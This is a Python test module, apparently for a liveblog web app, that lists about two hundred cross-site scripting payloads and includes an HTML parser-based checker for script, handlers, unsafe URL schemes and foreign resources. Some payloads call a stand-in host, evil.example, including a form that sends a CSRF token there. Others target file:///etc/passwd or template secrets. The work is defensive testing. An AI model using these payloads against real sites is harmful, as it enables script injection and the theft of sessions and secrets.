"""Texts that would do harm if any of them were obeyed, and how to see in a page that none was.

The list is our own. It goes through the classes that the public collections have (OWASP's filter
evasion, PortSwigger's cheat sheet, html5sec, payloadbox), a few of each, and what Markdown adds.
`HOSTILE_LIST=path` adds the lines of a file, such as one of those collections, in all that an entry
has.
"""

import os
import re
from collections.abc import Iterator
from pathlib import Path

import html5lib

INNOCENT = "An innocent text"

PAYLOADS = [
    # Elements that run by themselves.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script\t\n bar>",
    "<script/x src=//evil.example/1.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script type=module>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onmouseover=alert(1) style=position:fixed;inset:0>x</p>",
    "<div onpointerenter=alert(1)>x</div>",
    "<p style='animation:x' onanimationstart=alert(1)>",
    "<a id=x tabindex=1 onfocusin=alert(1)>x</a>",
    "<x contenteditable oninput=alert(1)>x",
    "<button popovertarget=x onclick=alert(1)>x</button><i id=x popover onbeforetoggle=alert(1)>",
    "<xss onscrollsnapchange=alert(1) style=overflow:auto>",
    "<form onsubmit=alert(1)><button>x</button></form>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # What a parser makes of it the second time.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><script>alert(1)</script>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<plaintext><script>alert(1)</script>",
    "<a href='x'><style></a><img src=x onerror=alert(1)>",
    "<table><td background=javascript:alert(1)><tr><caption><svg onload=alert(1)>",
    # What loads or leads away.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<video poster=//evil.example/p.png></video>",
    "<input type=image src=//evil.example/i.png formaction=javascript:alert(1)>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<applet code=Evil.class></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=//evil.example/></portal>",
    # Links in HTML, with entities, white space and capitals.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=java&#x0A;script:alert(1)>x</a>",
    "<a href=java&Tab;script&colon;alert(1)>x</a>",
    "<a href=&#106;&#97;vascript:alert(1)>x</a>",
    "<a href=&#x6a;avascript&#0000058alert(1)>x</a>",
    "<a href=\x01javascript:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=x target=_blank ping=//evil.example/>x</a>",
    "<area href=javascript:alert(1)>",
    # Links in Markdown.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&#58;alert&#40;1&#41;)",
    "[x](\\javascript:alert(1))",
    "[x](javascript://example.org/%0Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example/%0d%0aSet-Cookie:a=b)",
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://example.org 'a\"b onclick=alert(1)')",
    "[x](https://example.org/\"onmouseover=alert(1)//)",
    "[x](https://example.org/'onmouseover=alert(1)//)",
    "[x](https://example.org/<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](x)",
    "[![x](x)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover=alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](https://example.org)<img src=x onerror=alert(1)>",
    "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "javascript://example.org/%0aalert(1)",
    "https://youtu.be/Qu4ysh1re_-\"onload=alert(1)",
    "https://youtube.com@evil.example/watch?v=Qu4ysh1re_-",
    "https://www.youtube.com/watch?v=<script>alert(1)</script>",
    # Blocks in Markdown.
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "| <img src=x onerror=alert(1)> | a |\n|-|-|\n| [x](javascript:alert(1)) | b |",
    "`<script>alert(1)</script>`",
    "`` ` ``<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"onmouseover=\"alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "<div>\n\n**x** <script>alert(1)</script>\n\n</div>",
    "<?php alert(1) ?><img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "**<b onclick=alert(1)>**x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # Out of what it stands in: attributes, scripts, comments, JSON, templates.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    '"--></style></script><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</article></div></main><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "';alert(1)//",
    '\\";alert(1)//',
    "${alert(1)}`-alert(1)-`",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    '{"@type":"Person"}</script><script>alert(1)</script>',
    "\u2028alert(1)\u2029//",
    "{{ 7*7 }}{{ constructor.constructor('alert(1)')() }}",
    "{% csrf_token %}{% load static %}{{ settings.SECRET_KEY }}",
    "{{request.user.password}}<% alert(1) %>#{alert(1)}",
    # Styles.
    "<style>*{background:url(//evil.example/)}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<p style=width:expression(alert(1))>x</p>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "red;--c:url(//evil.example/)",
    # Letters that are others.
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x on\u200berror=alert(1)>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<\x0bscript>alert(1)</script>",
    "<sc\x00ript>alert(1)</sc\x00ript>",
    "\x00<img src=x onerror=alert(1)>",
    # For several places at once, and names of files.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(alert(1))//%0D%0A//</stYle/</scRipt/--!>\\x3csVg/oNloAd=alert(1)//>",
    "\"'><svg/onload=alert(1)>{{7*7}}[x](javascript:alert(1))",
    "--></tiTle/</stYle/</texTarea/</scripT><img src onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>.jpg",
    "../../<script>alert(1)</script>.svg",
]  # fmt: skip


def listed() -> list[str]:
    """The lines of the file that `HOSTILE_LIST` names; none without it."""
    if not (named := os.environ.get("HOSTILE_LIST")):
        return []
    lines = Path(named).read_text(encoding="utf-8", errors="replace").splitlines()
    return [line for line in dict.fromkeys(lines) if line.strip() and line not in PAYLOADS]


def is_kept(payload: str) -> bool:
    """Whether a desk takes it at all: no database keeps NUL."""
    return "\x00" not in payload


# --- What a browser would make of a page ----------------------------------------------------------

_OURS = re.compile(r"/static/liveblog/[\w./-]+|assets/[\w.-]+|(?:\.\./)+assets/[\w.-]+")
_PICTURE = re.compile(
    r"(?:/[-\w]+/|(?:\.\./)*)pictures/[0-9a-z]{18}/[0-9]{1,4}w\.(?:avif|webp|jpeg)"
)
_DOES = {
    "script", "iframe", "object", "embed", "applet", "base", "frame", "frameset", "style", "math",
    "portal", "video", "audio", "source", "img", "image", "marquee", "template", "noembed", "xmp",
    "plaintext", "foreignobject", "animate", "set", "use", "isindex", "listing",
}  # fmt: skip
_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset",
              "xlink:href", "ping", "cite", "code", "manifest", "longdesc"}  # fmt: skip
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\t\n\r-]*):", re.IGNORECASE)
_STYLE = re.compile(r"(?:--[a-z]+:\s?[#\w.%]*;?\s?)*")


def harm(html: str, *, fragment: bool = False) -> list[str]:
    """Everything in it that could do something and that the house does not put into a page.

    Read by the algorithm of browsers, so that what is harmless to look at but is made into
    something else by its parser is seen as what it becomes.
    """
    found = []
    for tag, attributes in elements(html, fragment=fragment):
        found += [f"<{tag} {name}>" for name in attributes if name.lower().startswith("on")]
        found += [f"<{tag} {name}>" for name in attributes if name.lower() == "srcdoc"]
        if not _STYLE.fullmatch(attributes.get("style", "")):
            found.append(f"<{tag} style={attributes['style']}>")
        for name in _ADDRESSES & set(attributes):
            scheme = _SCHEME.match(attributes[name])
            said = re.sub(r"[\t\n\r]", "", scheme[1]).lower() if scheme else "https"
            is_icon = tag == "link" and attributes[name] == "data:,"
            if said not in {"http", "https", "mailto"} and not is_icon:
                found.append(f"<{tag} {name}={attributes[name]}>")
        if tag == "script":
            is_data = attributes.get("type") == "application/ld+json" and "src" not in attributes
            if not is_data and not _OURS.fullmatch(attributes.get("src", "")):
                found.append(f"<script {attributes}>")
        elif tag in _DOES and not _is_ours(tag, attributes):
            found.append(f"<{tag} {attributes}>")
        elif tag == "link" and attributes.get("rel") == "stylesheet":
            if not _OURS.fullmatch(attributes.get("href", "")):
                found.append(f"<link {attributes}>")
        elif tag == "form" and not re.match(r"(?:$|\?|/(?!/))", attributes.get("action", "")):
            found.append(f"<form {attributes}>")
        elif tag == "meta" and "http-equiv" in attributes:
            found.append(f"<meta {attributes}>")
    return found


def _is_ours(tag: str, attributes: dict[str, str]) -> bool:
    """Templates that scripts of ours look for, and pictures at the addresses of pictures."""
    if tag == "template":
        return "data-taken-down" in attributes or set(attributes) == {"data-row"}
    if tag == "img" and "src" not in attributes:
        return "data-thumb" in attributes
    if tag not in {"img", "source"}:
        return False
    named = [each.split(" ")[0] for each in attributes.get("srcset", "").split(", ") if each]
    named += [attributes["src"]] if "src" in attributes else []
    return bool(named) and all(map(_PICTURE.fullmatch, named))


def skeleton(html: str) -> list[str]:
    """The elements of a fragment and the names of their attributes, in order, but for its prose.

    With a text that is only shown it is the same whatever the text is.
    """
    return [
        f"{tag} {' '.join(sorted(attributes))}"
        for tag, attributes in elements(html, fragment=True, but={"prose", "quote"})
    ]


def elements(
    html: str, *, fragment: bool, but: frozenset[str] | set[str] = frozenset()
) -> Iterator[tuple[str, dict[str, str]]]:
    """Every element with its attributes, in order, as the parser of a browser finds them."""
    parser = html5lib.HTMLParser(html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
    root = parser.parseFragment(html) if fragment else parser.parse(html)
    waiting = [root]
    while waiting:
        element = waiting.pop()
        if not isinstance(element.tag, str):
            yield "comment", {}
            continue
        attributes = {_name(name): value or "" for name, value in element.attrib.items()}
        yield _name(element.tag), attributes
        if not but & set(attributes.get("class", "").split()):
            waiting += reversed(list(element))


def _name(name: str) -> str:
    """`href` of `{http://www.w3.org/1999/xlink}href`."""
    return name.rpartition("}")[2].lower()
